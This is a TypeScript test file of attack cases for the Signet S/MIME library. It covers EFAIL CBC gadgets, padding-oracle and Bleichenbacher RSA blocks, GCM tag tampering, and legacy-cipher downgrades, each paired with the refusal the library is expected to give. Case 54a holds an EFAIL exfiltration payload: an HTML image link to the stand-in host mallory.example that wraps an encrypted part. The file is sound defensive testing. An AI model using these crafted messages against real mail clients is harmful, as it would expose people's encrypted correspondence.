import { createCipheriv } from 'node:crypto';
import { integer, nullValue, octetString, oid, sequence } from '../../src/asn1/der.ts';
import { OID } from '../../src/asn1/oids.ts';
import { utf8, type Bytes } from '../../src/bytes.ts';
import { contentKey, type CipherName, type Enciphered } from '../../src/crypto/encipher.ts';
import { transportKey } from '../../src/crypto/key-transport.ts';
import { envelope, keyTransRecipientInfo, type EnvelopeOptions } from '../support/envelop-cms.ts';
import { encryptedTo } from '../support/envelope.ts';
import { clearSigned, FROM_ALICE, pkcs7Mime, TEXT } from '../support/message.ts';
import { attribute, contentInfo, issuerAndSerialNumber } from '../support/sign-cms.ts';
import type { AttackCase } from './case.ts';
import { html, multipart, plain } from './multipart.ts';
import type { People } from './people.ts';

type Given = Omit<EnvelopeOptions, 'recipientInfos' | 'key'> & { readonly encryptedKey?: Bytes };

/** Encrypted to Bob's RSA key, as it is told. */
async function sealed({ rsaBob }: People, { cipher = 'AES-128-CBC', ...given }: Given): Promise<Bytes> {
  const { encryptedKey, ...options } = given;
  const key = contentKey(cipher);
  const { subjectPublicKeyInfo } = rsaBob.identity.certificate;
  const right = await transportKey(subjectPublicKeyInfo, 'RSAES-PKCS1-v1_5', key);
  const transported = encryptedKey
    ? { keyEncryptionAlgorithm: sequence(oid(OID.rsaEncryption), nullValue()), encryptedKey }
    : right!;
  const recipientInfos = [keyTransRecipientInfo(issuerAndSerialNumber(rsaBob.identity), transported)];
  const isAuthenticated =
    options.type === undefined ? cipher.endsWith('GCM') : options.type === 'AuthEnvelopedData';
  const encoding = await envelope({ ...options, cipher, key, recipientInfos });
  return pkcs7Mime(
    contentInfo(encoding, isAuthenticated ? OID.authEnvelopedData : OID.envelopedData),
    FROM_ALICE,
    isAuthenticated ? 'authEnveloped-data' : 'enveloped-data',
  );
}

const flipped = (bytes: Bytes, at: number, mask = 0xff): Bytes =>
  bytes.map((octet, index) => (index === (at + bytes.length) % bytes.length ? octet ^ mask : octet));

/** The ciphertext with one octet changed: in CBC it changes the same octet of the next block. */
const changedAt =
  (at: number, mask?: number) =>
  ({ encryptedContent: [first] }: Enciphered): Partial<Enciphered> => ({
    encryptedContent: [flipped(first!, at, mask)],
  });

/** The IV changed so that the first block says something else: this octet, by this mask. */
const withIv =
  (mask: Bytes) =>
  ({ contentEncryptionAlgorithm }: Enciphered): Partial<Enciphered> => ({
    contentEncryptionAlgorithm: contentEncryptionAlgorithm.map((octet, at, all) => {
      const index = at - (all.length - 16);
      return index < 0 ? octet : octet ^ (mask[index] ?? 0);
    }),
  });

/** What turns the known beginning of a text into another one. */
const gadget = (from: string, to: string): Bytes =>
  Uint8Array.from(utf8(from), (octet, at) => octet ^ (utf8(to)[at] ?? 0));

/** A content of octets in a cipher that Signet does not write. */
const inCipher =
  (type: string, parameters: Bytes): ((people: People) => Promise<Bytes>) =>
  (people) =>
    sealed(people, {
      change: () => ({
        contentEncryptionAlgorithm: sequence(oid(type), parameters),
        encryptedContent: [new Uint8Array(64).fill(7)],
      }),
    });

/** Triple DES under the key of AES-192, which is as long. */
async function inTripleDes(people: People): Promise<Bytes> {
  const key = contentKey('AES-192-CBC');
  const iv = new Uint8Array(8).fill(9);
  const cipher = createCipheriv('des-ede3-cbc', key, iv);
  const encryptedContent = [new Uint8Array(Buffer.concat([cipher.update(TEXT), cipher.final()]))];
  const { identity } = people.rsaBob;
  const transported = await transportKey(identity.certificate.subjectPublicKeyInfo, 'RSAES-PKCS1-v1_5', key);
  const encoding = await envelope({
    cipher: 'AES-192-CBC',
    key,
    recipientInfos: [keyTransRecipientInfo(issuerAndSerialNumber(identity), transported!)],
    change: () => ({
      contentEncryptionAlgorithm: sequence(oid(OID.desEde3Cbc), octetString(iv)),
      encryptedContent,
    }),
  });
  return pkcs7Mime(contentInfo(encoding, OID.envelopedData), FROM_ALICE, 'enveloped-data');
}

const GCM: CipherName = 'AES-128-GCM';

/** What is opened, and what stays closed (RFC 5652 §6, RFC 5083). */
export const decryptionCases: readonly AttackCase[] = [
  {
    id: '53a',
    title: 'The beginning of an encrypted text rewritten without the key (CBC gadget)',
    source: 'EFAIL, CVE-2017-17689',
    message: (people) => sealed(people, { change: withIv(gadget('Content-Type: te', 'Subject: Pay up;')) }),
    verdict: 'unsigned',
    codes: [],
    decryption: 'unauthenticated',
    why: 'It opens, as CBC does, and is called what it is: anybody could have changed it.',
  },
  {
    id: '53b',
    title: 'The same under a signature inside',
    source: 'EFAIL, CVE-2017-17689',
    message: async (people) => {
      const text = plain('Shall we have lunch on Friday? '.repeat(4));
      const content = await clearSigned({ signers: [{ by: people.alice }], content: text, fields: {} });
      const inText = Buffer.from(content).indexOf('Shall') + 32;
      return sealed(people, { content, change: changedAt(inText) });
    },
    verdict: 'invalid',
    codes: ['content-changed'],
    decryption: 'unauthenticated',
    why: 'The signature inside finds what the cipher does not.',
  },
  {
    id: '53c',
    title: 'A ciphertext whose padding comes out wrong',
    source: 'Vaudenay 2002',
    message: (people) => sealed(people, { change: changedAt(-17) }),
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'Nothing is released, and nothing says that it was the padding.',
  },
  {
    id: '54a',
    title: 'An encrypted part inside the address of a picture',
    source: 'EFAIL',
    message: async ({ bob }) =>
      multipart(FROM_ALICE, [
        html('<img src="https://mallory.example/?'),
        await encryptedTo(bob, TEXT, {}),
        html('">'),
      ]),
    verdict: 'unsigned',
    codes: [],
    why: 'Not opened: only the root of a message is, so there is no plaintext to carry off.',
  },
  {
    id: '56a',
    title: 'An encrypted part hidden in a message that asks for an answer',
    source: 'CVE-2019-11739, CVE-2019-10732, CVE-2019-10740',
    message: async ({ bob }) =>
      multipart(
        FROM_ALICE,
        [plain('What do you think?'), await encryptedTo(bob, TEXT, {})],
        'multipart/alternative',
      ),
    verdict: 'unsigned',
    codes: [],
    why: 'Not opened, so an answer cannot quote it.',
  },
  {
    id: '58a',
    title: 'Two encrypted parts under one root',
    source: 'CVE-2021-4126',
    message: async ({ bob }) =>
      multipart(FROM_ALICE, [await encryptedTo(bob, TEXT, {}), await encryptedTo(bob, TEXT, {})]),
    verdict: 'unsigned',
    codes: [],
    why: 'Neither is opened. The message itself is an ordinary unsigned one, so that is its verdict.',
  },
  {
    id: '59a',
    title: 'One bit of an authenticated ciphertext changed',
    source: 'RFC 5083 §2.1',
    message: (people) => sealed(people, { cipher: GCM, change: changedAt(20) }),
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'Nothing is released before the tag is checked.',
  },
  {
    id: '59b',
    title: 'A wrong tag',
    source: 'RFC 5084 §3.2',
    message: (people) =>
      sealed(people, { cipher: GCM, change: ({ mac }) => ({ mac: flipped(mac!, -1, 1) }) }),
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'Nothing is released before the tag is checked.',
  },
  {
    id: '59c',
    title: 'A tag of four octets',
    source: 'RFC 5084 §3.2',
    message: (people) =>
      sealed(people, {
        cipher: GCM,
        change: ({ contentEncryptionAlgorithm, mac }) => ({
          contentEncryptionAlgorithm: flipped(contentEncryptionAlgorithm, -1, 16 ^ 4),
          mac: mac!.subarray(0, 4),
        }),
      }),
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'Twelve octets are the least; four are guessed.',
  },
  {
    id: '59d',
    title: 'An attribute beside the ciphertext changed',
    source: 'RFC 5083 §2.2',
    message: async (people) => {
      const attributes = [attribute(OID.contentType, oid(OID.data)), attribute(OID.signingTime, integer(7))];
      const message = await sealed(people, { cipher: GCM, authenticatedAttributes: attributes });
      const [head = '', body = ''] = Buffer.from(message).toString('latin1').split('\r\n\r\n');
      const cms = Buffer.from(body, 'base64');
      const at = cms.indexOf(Buffer.from(attributes[1]!));
      cms[at + attributes[1]!.length - 1]! ^= 1;
      return utf8(`${head}\r\n\r\n${cms.toString('base64')}`);
    },
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'The tag is over the attributes too.',
  },
  {
    id: '59e',
    title: 'An authenticated message dressed as one whose tag nobody asks for',
    source: 'RFC 5083 §2.1',
    message: (people) => sealed(people, { cipher: GCM, type: 'EnvelopedData' }),
    verdict: 'refused',
    codes: ['cipher-refused'],
    decryption: 'failed',
    why: 'GCM without its tag is a stream that anybody can change.',
  },
  {
    id: '59f',
    title: 'A cipher without a tag dressed as an authenticated one',
    source: 'RFC 5083 §2.1',
    message: (people) => sealed(people, { cipher: 'AES-128-CBC', type: 'AuthEnvelopedData' }),
    verdict: 'refused',
    codes: ['cipher-refused'],
    decryption: 'failed',
    why: 'It would be called what it is not.',
  },
  {
    id: '60a',
    title: 'An RSA block with a wrong padding',
    source: 'Bleichenbacher 1998, CVE-2023-4421',
    message: (people) => sealed(people, { cipher: GCM, encryptedKey: new Uint8Array(256).fill(1) }),
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'The same answer as for 60b, by the same way: it gives a key as well, one that opens nothing.',
  },
  {
    id: '60b',
    title: 'An RSA block with a right padding and another key in it',
    source: 'Bleichenbacher 1998, CVE-2023-4421',
    message: async (people) => {
      const { subjectPublicKeyInfo } = people.rsaBob.identity.certificate;
      const other = await transportKey(subjectPublicKeyInfo, 'RSAES-PKCS1-v1_5', contentKey(GCM));
      return sealed(people, { cipher: GCM, encryptedKey: other!.encryptedKey });
    },
    verdict: 'refused',
    codes: ['decryption-failed'],
    decryption: 'failed',
    why: 'The same answer as for 60a.',
  },
  {
    id: '61a',
    title: 'Triple DES',
    source: 'RFC 8551 §2.7, CVE-2016-2183',
    message: inTripleDes,
    verdict: 'unsigned',
    codes: ['cipher-legacy'],
    decryption: 'unauthenticated',
    why: 'Old letters are opened, with a word on their age; none is written.',
  },
  {
    id: '61b',
    title: 'RC2 of 40 bits',
    source: 'RFC 8551 Appendix B',
    message: inCipher(OID.rc2Cbc, sequence(integer(160), octetString(new Uint8Array(8)))),
    verdict: 'refused',
    codes: ['cipher-refused'],
    decryption: 'failed',
    why: 'Not opened unless asked for.',
  },
  {
    id: '61c',
    title: 'DES',
    source: 'RFC 8551 Appendix B',
    message: inCipher(OID.desCbc, octetString(new Uint8Array(8))),
    verdict: 'refused',
    codes: ['cipher-refused'],
    decryption: 'failed',
    why: 'Not opened unless asked for.',
  },
  {
    id: '62a',
    title: 'Encrypted, and signed by nobody',
    source: 'CVE-2025-26696',
    message: ({ bob }) => encryptedTo(bob, TEXT, FROM_ALICE),
    verdict: 'unsigned',
    codes: [],
    decryption: 'unauthenticated',
    why: 'Anybody can encrypt to Bob; never a word of “signed” or “verified”.',
  },
  {
    id: '62b',
    title: 'Encrypted with a tag, and signed by nobody',
    source: 'CVE-2025-26696',
    message: ({ bob }) => encryptedTo(bob, TEXT, FROM_ALICE, GCM),
    verdict: 'unsigned',
    codes: [],
    decryption: 'authenticated',
    why: '“Authenticated” is of the cipher: nothing was changed since, by whoever wrote it.',
  },
];
